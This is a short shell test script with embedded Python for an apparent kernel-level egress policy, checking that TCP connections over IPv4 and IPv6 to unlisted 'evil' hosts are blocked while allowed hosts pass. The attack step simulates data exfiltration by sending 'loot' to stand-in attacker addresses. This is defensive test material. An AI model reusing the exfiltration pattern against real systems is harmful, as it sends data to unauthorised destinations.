#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: connects by TCP, over IPv4 and IPv6, to a host that the policy does not name, and sends
# stopped-by: connect4, connect6
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443

attack_by <<'PYTHON'
from attacker import *

for evil, tag in (EVIL4, "tcp4"), (EVIL6, "tcp6"):
    with attempt(tag):
        sock = tcp(evil)
        sock.connect((evil, 443))
        sock.sendall(loot(tag))
for good, tag in (GOOD4, "tcp4"), (GOOD6, "tcp6"):
    sock = tcp(good)
    sock.connect((good, 443))
    sock.sendall(honest(tag))
PYTHON
works stolen:tcp4 stolen:tcp6
gate
stopped
passes honest:tcp4 honest:tcp6
recorded connect4 destination
recorded connect6 destination
